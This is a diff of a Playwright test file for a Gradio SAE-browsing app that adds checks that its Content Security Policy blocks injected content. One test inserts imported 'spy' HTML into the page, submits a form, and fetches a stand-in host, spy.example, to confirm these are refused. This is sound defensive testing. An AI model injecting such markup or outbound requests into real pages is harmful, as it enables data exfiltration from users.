@@ -9,7 +9,7 @@ from gradio_client import Client
 from playwright.sync_api import TimeoutError as PlaywrightTimeout
 from playwright.sync_api import expect
 
-from .conftest import D_SAE, HOSTILE, assert_ended_early
+from .conftest import D_SAE, HOSTILE, SPIES, assert_ended_early
 
 # what a link opens, and what is there once it is drawn
 SCREENS = {
@@ -35,13 +35,19 @@ AFTER_ERRORS = """new Promise(done => {
 def visit(browser, app_url) -> Iterator[Callable]:
     """visit(query, width=...) -> a page in a browser context of its own.
 
-    At the end: no script failed, and no request went anywhere but to the app.
+    At the end: no script failed, no request went anywhere but to the app, and the page's policy
+    refused nothing.
     """
     contexts, wrong = [], []
 
     def ours(request) -> None:
         if not request.url.startswith((app_url, "data:", "blob:")):
             wrong.append(request.url)
+
+    def policy(message) -> None:
+        own_base = f"base URI to '{app_url}'"  # Gradio sets it to what it is without
+        if "Content Security Policy" in message.text and own_base not in message.text:
+            wrong.append(message.text)
 
     def visit(query: str = "", width: int = 1280):
         context = browser.new_context(viewport={"width": width, "height": 900})
@@ -50,6 +56,7 @@ def visit(browser, app_url) -> Iterator[Callable]:
         page.set_default_timeout(WAIT)
         page.on("pageerror", lambda error: wrong.append(str(error)))
         page.on("request", ours)
+        page.on("console", policy)
         page.goto(f"{app_url}?{query}")
         page.wait_for_selector("#header .hf-top")
         page.wait_for_function(FILLED)
@@ -343,9 +350,38 @@ def test_health_measures_a_text_and_compares(visit, sae_folder):
     assert set(page.eval_on_selector_all("#health-comparison td", lines)) == {"nowrap"}
 
 
-def test_about_shows_the_card(visit):
+def test_about_shows_the_card_and_nothing_in_it_acts(visit):
     page = visit("tab=about")
     page.wait_for_selector("#about-card :text('A tiny SAE')")
+    assert page.locator("#about-card td").all_inner_texts() == ["x", "1"]
+    acting = "video, audio, form, input, button, iframe"
+    assert page.locator("#about-card").locator(acting).count() == 0
+    covering = page.locator("#about-card :text('covered')")
+    assert covering.evaluate("node => getComputedStyle(node).position") == "static"
+
+
+def test_what_gets_into_the_page_all_the_same_fetches_and_sends_nothing(browser, app_url):
+    """The policy alone, without the sanitiser before it."""
+    context = browser.new_context()
+    page, asked, refused = context.new_page(), [], []
+    page.on("requestfinished", lambda request: asked.append((request.url, None)))
+    page.on("requestfailed", lambda request: asked.append((request.url, request.failure)))
+    page.goto(app_url)
+    page.wait_for_selector("#header .hf-top")
+    page.expose_function("refuse", lambda directive: refused.append(directive))
+    page.evaluate(
+        """spies => {
+            addEventListener("securitypolicyviolation", event => refuse(event.effectiveDirective));
+            document.body.insertAdjacentHTML("beforeend", spies);
+            document.forms[document.forms.length - 1].submit();
+            return fetch("https://spy.example/f").catch(() => null);
+        }""",
+        SPIES,
+    )
+    page.evaluate(AFTER_ERRORS)
+    context.close()
+    assert {why for url, why in asked if "spy.example" in url} <= {"csp"}
+    assert {"media-src", "form-action", "connect-src", "style-src-elem"} <= set(refused)
 
 
 def test_hostile_text_stays_text(visit):
